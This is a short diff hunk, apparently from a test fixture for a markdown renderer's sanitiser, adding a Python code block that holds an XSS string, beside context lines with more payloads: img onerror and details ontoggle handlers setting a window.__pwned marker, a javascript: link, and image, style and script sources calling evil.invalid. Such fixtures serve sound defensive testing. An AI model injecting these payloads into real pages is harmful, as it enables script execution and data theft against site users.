@@ -36,6 +36,10 @@ $\href{javascript:window.__pwned='tex'}{x}$ $$\style{background:url(https://evil
 <img src=x onerror="window.__pwned='fence'"><img src=https://evil.invalid/?d=FENCE>
 ```
 
+```python
+code = "<img src=x onerror=window.__pwned='code'><script src=https://evil.invalid/?d=CODE></script>"
+```
+
 | <img src=x onerror="window.__pwned='table'"> | b |
 |---|---|
 | <details open ontoggle="window.__pwned='toggle'"> | 1 |
